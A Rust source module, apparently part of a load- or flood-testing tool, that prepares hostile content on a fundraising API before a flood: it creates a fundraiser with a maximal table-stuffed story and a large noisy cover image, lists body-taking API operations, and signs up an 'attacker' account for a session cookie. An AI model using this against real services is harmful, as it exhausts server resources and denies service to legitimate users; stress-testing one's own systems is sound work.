//! What an attacker stores on a server before a flood: a fundraiser whose story and cover are as costly as possible.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};

use anyhow::{Context, Result, bail, ensure};
use serde_json::{Value, json};

use crate::base64::base64;
use crate::connection::Connection;
use crate::pictures::corpus::webp::half_transparent_noise;
use crate::requests::{Requests, get_request};
use crate::sample::ApiClient;

/// The length of the story, in bytes. The longest that is accepted has 20,000 characters.
const STORY_LENGTH: usize = 17_000;
/// The number of tables in the story, each of which has many empty cells.
const TABLES: usize = 6;

/// The fundraiser, and what floods ask for.
#[derive(Clone)]
pub(crate) struct HostileContent {
    /// The path of the page of the fundraiser.
    pub page: String,
    /// The path of its cover.
    pub picture: String,
    /// The IDs of nonprofits.
    pub nonprofits: Vec<String>,
    /// The paths of the API that take a body: method and path.
    pub operations: Vec<(String, String)>,
    /// The session cookie of an account that signed up.
    pub session: String,
}

impl HostileContent {
    /// Creates the fundraiser with the keys of an account. `credentials` is the value of the header for them.
    pub(crate) fn create(api: &ApiClient, credentials: &str) -> Result<HostileContent> {
        let mut connection = Connection::open(api.address)?;
        let found = api.json(&mut connection, "search/a", "&take=50")?;
        let found = found["nonprofits"].as_array().cloned().unwrap_or_default();
        let mut nonprofits = Vec::new();
        let mut recipient = None;
        for nonprofit in &found {
            let ein = nonprofit["ein"].as_str().context("a search result has no EIN")?;
            let details = api.json(&mut connection, &format!("nonprofit/{ein}"), "")?;
            let details = &details["data"]["nonprofit"];
            let id = text(details, "id")?;
            if details["isDisbursable"] == true && recipient.is_none() {
                recipient = Some((id.clone(), text(details, "primarySlug")?));
            }
            nonprofits.push(id);
        }
        let Some((id, slug)) = recipient else {
            bail!("no nonprofit in the directory can receive donations");
        };
        let mut requests = Requests::new(api.address);
        let body = json!({
            "nonprofitId": id,
            "title": "Tables",
            "description": story(),
            "imageBase64": base64(&half_transparent_noise(2_048, 2_048, 1_200_000)),
        });
        let authorization = format!("Authorization: {credentials}\r\n");
        requests.push_post("/v0.2/fundraiser", &authorization, &body.to_string());
        let response = connection.request(requests.get(0))?;
        let body: Value = serde_json::from_slice(response.body)?;
        ensure!(response.status == 200, "the fundraiser was not created: {body}");
        let fundraiser = &body["data"]["fundraiser"];
        Ok(HostileContent {
            page: format!("/{slug}/f/{}", text(fundraiser, "slug")?),
            picture: format!("/media/{}", text(fundraiser, "coverImageHostedId")?),
            nonprofits,
            operations: list_operations(&mut connection, api.address)?,
            session: sign_up(api.address)?,
        })
    }
}

fn text(value: &Value, name: &str) -> Result<String> {
    let text = value[name].as_str();
    Ok(text.with_context(|| format!("{name} is missing"))?.to_owned())
}

/// Returns a story of tables with as many cells as fit.
fn story() -> String {
    let columns = STORY_LENGTH / TABLES / 6;
    let table = format!(
        "{}\n{}\n{}\n\n",
        "|".repeat(columns),
        "|-".repeat(columns),
        "|\n".repeat(columns)
    );
    table.repeat(TABLES)
}

/// Lists the operations that take a body from the description of the API. Parameters in paths get any value.
fn list_operations(connection: &mut Connection, address: SocketAddr) -> Result<Vec<(String, String)>> {
    let response = connection.request(get_request(address, "/v0.2/openapi.json").as_bytes())?;
    let description: Value = serde_json::from_slice(response.body)?;
    let mut operations = Vec::new();
    for (path, methods) in description["paths"].as_object().into_iter().flatten() {
        for (method, operation) in methods.as_object().into_iter().flatten() {
            if operation.get("requestBody").is_some() {
                let path = path
                    .split('/')
                    .map(|part| if part.starts_with('{') { "x" } else { part });
                operations.push((method.to_uppercase(), path.collect::<Vec<_>>().join("/")));
            }
        }
    }
    ensure!(
        !operations.is_empty(),
        "the description of the API has no operation with a body"
    );
    Ok(operations)
}

/// Creates an account on the website. Returns its session cookie.
fn sign_up(address: SocketAddr) -> Result<String> {
    let body = "username=attacker&email=attacker@example.org&password=correct+horse+battery+staple";
    let request = format!(
        "POST /dashboard/sign-up HTTP/1.1\r\nHost: {address}\r\nSec-Fetch-Site: same-origin\r\nConnection: close\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let mut stream = TcpStream::connect(address)?;
    stream.write_all(request.as_bytes())?;
    let mut response = String::new();
    stream.read_to_string(&mut response)?;
    let cookie = response
        .lines()
        .filter_map(|line| line.split_once(": "))
        .find(|(name, _)| name.eq_ignore_ascii_case("set-cookie"))
        .and_then(|(_, cookie)| cookie.split(';').next());
    let status = response.lines().next().unwrap_or_default();
    Ok(cookie
        .with_context(|| format!("signing up failed: {status}"))?
        .to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_story_is_as_long_as_stories_may_be() {
        let length = story().len();
        assert!((STORY_LENGTH * 3 / 4..=20_000).contains(&length), "{length}");
    }
}
